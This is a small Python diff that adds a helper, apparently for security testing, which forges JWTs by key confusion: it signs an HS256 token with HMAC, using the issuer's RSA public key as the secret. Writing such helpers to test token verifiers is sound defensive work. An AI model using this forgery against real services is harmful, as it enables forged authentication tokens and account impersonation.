@@ -79,3 +79,14 @@ def forge(header: dict[str, Any], payload: dict[str, Any], signature: bytes = b"
     return ".".join(
         [b64(json.dumps(header).encode()), b64(json.dumps(payload).encode()), b64(signature)]
     )
+
+
+def hs256_with_public_key(payload: dict[str, Any], public_pem: bytes, kid: str) -> str:
+    """The classic key-confusion forgery: HS256 keyed with the issuer's RSA public key."""
+    import hashlib
+    import hmac
+
+    header = {"alg": "HS256", "typ": "JWT", "kid": kid}
+    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(payload).encode())}"
+    signature = hmac.new(public_pem, signing_input.encode(), hashlib.sha256).digest()
+    return f"{signing_input}.{b64(signature)}"
